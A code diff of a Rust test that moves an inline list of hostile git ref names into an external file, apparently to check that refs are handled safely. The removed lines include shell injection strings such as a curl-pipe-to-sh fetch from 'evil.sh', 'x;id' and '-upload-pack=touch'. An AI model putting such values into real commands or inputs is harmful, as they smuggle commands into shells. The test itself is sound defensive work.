@@ -5,32 +5,8 @@ use towline_ports::{FileAt, Relation};
 
 use super::*;
 
-/// INVARIANTS 2.4: refs that Git allows and shells do not forgive.
-const EVIL: [&str; 23] = [
-    "a$(curl${IFS}evil.sh|sh)",
-    "x;id",
-    "x`id`",
-    "x&&id",
-    "x|sh",
-    "x'y",
-    "x\"y",
-    "x{a,b}",
-    "x#y",
-    "x%0a",
-    "x<y>",
-    "x=y",
-    "${{github.token}}",
-    "{{x}}",
-    "!!python",
-    "null",
-    "yes",
-    "@",
-    "HEAD",
-    "refs/heads/x",
-    "-upload-pack=touch",
-    "--help",
-    "a\u{202e}b",
-];
+/// Refs that Git allows and shells do not forgive, one a line.
+const EVIL: &str = include_str!("../../../../buildspec/tests/refs/evil.txt");
 
 #[tokio::test]
 async fn files_are_read_at_the_commit_and_nothing_else_is() {
@@ -90,7 +66,7 @@ async fn a9_heads_of_evil_refs_are_their_own() {
         world.git(&["rev-parse", "HEAD^{tree}"])
     };
     let mut expected = Vec::new();
-    for branch in EVIL {
+    for branch in EVIL.lines() {
         let commit = world.git(&["commit-tree", "-m", branch, &tree]);
         world.git(&["update-ref", &format!("refs/heads/{branch}"), &commit]);
         expected.push((branch, commit));
